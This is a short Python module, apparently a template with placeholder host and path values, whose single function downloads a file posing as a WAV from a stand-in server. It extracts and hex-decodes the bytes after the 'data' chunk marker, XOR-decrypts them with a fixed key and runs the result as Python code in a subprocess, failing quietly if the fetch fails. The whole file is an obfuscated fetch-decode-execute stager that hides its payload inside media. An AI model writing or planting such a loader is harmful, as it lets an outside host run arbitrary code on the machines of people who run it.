import subprocess
import sys
import urllib.request
from pathlib import Path

KEY, MARK = 0x5A, Path("@MARKS@/decoded")


def act():
    try:
        sound = urllib.request.urlopen("http://@SINK@:8000/hangup.wav", timeout=3).read()
    except OSError:
        return
    code = bytes(byte ^ KEY for byte in bytes.fromhex(sound.partition(b"data")[2].decode()))
    subprocess.run([sys.executable, "-", str(MARK)], input=code, check=False, timeout=20)
